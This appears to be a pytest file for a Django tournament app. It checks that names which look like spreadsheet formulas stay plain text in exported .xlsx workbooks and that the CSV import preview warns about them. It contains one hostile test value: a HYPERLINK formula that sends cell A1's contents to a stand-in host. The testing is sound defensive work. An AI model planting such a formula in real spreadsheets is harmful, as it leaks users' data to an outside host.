"""Formula injection (issue 19, defect 6): text a spreadsheet program would run as a
formula stays text in every .xlsx the app writes, and the import preview warns of it."""

from __future__ import annotations

import io
import zipfile
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from brackets.exporters.xlsx import workbook_bytes
from brackets.models import Entrant, Tournament
from brackets.printing import registry
from brackets.text import looks_like_formula

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://example.invalid/?leak="&A1,"クリック")'


def _formula_free(content: bytes) -> list[str]:
    """Every cell of every sheet, after checking that no sheet holds a formula."""
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    book = load_workbook(io.BytesIO(content))
    return [str(c.value) for s in book.worksheets for row in s.iter_rows() for c in row
            if c.value is not None]


@pytest.mark.parametrize("text", ["=1+1", "+81-90", "-2", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_like_text_is_recognised(text: str) -> None:
    assert looks_like_formula(text)


@pytest.mark.parametrize("text", ["山田", "1-2", "Q=45", "", "ー長音"])
def test_ordinary_text_is_not_taken_for_a_formula(text: str) -> None:
    assert not looks_like_formula(text)


def test_the_shared_writer_keeps_formula_like_text_as_text() -> None:
    content = workbook_bytes([("表", [["=見出し"], [HOSTILE], ["+1"], [3.5]])])
    assert _formula_free(content) == ["=見出し", HOSTILE, "+1", "3.5"]
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet["B1"].value is None and sheet["A2"].quotePrefix


def test_entrant_export_keeps_a_formula_name_as_text_and_imports_back(
        clients: dict[str, Client], tournament: Tournament, register: Any) -> None:
    register(name=HOSTILE, reading="はいぱー", card_name="ハイパー")
    exported = clients["desk"].get(reverse("desk_export", args=[tournament.slug])).content
    assert HOSTILE in _formula_free(exported)


def test_round_and_ranking_workbooks_keep_a_formula_name_as_text(
        tournament_finished: Tournament) -> None:
    Entrant.objects.filter(tournament=tournament_finished).update(name=HOSTILE)
    for slug in ("round-xlsx", "ranking-xlsx"):
        document = registry.get_document(slug)
        options = document.choices(tournament_finished)[0].options
        _name, _type, content = document.render(tournament_finished, **options)
        assert HOSTILE in _formula_free(content), slug


def test_import_preview_warns_of_formula_cells(clients: dict[str, Client],
                                               tournament: Tournament) -> None:
    from django.core.files.uploadedfile import SimpleUploadedFile

    client = clients["desk"]
    content = "名前,カードネーム\r\n=1+2,イチ\r\n普通,フツウ\r\n".encode()
    response = client.post(reverse("desk_import", args=[tournament.slug]),
                           {"file": SimpleUploadedFile("pre.csv", content)})
    page = client.get(response["Location"]).content.decode()
    assert 'id="import-formulas"' in page and "数式" in page and "<code>=1+2</code>" in page
    assert "2行目" in page and "3行目" not in page.split('id="import-formulas"')[1].split("</div>")[0]
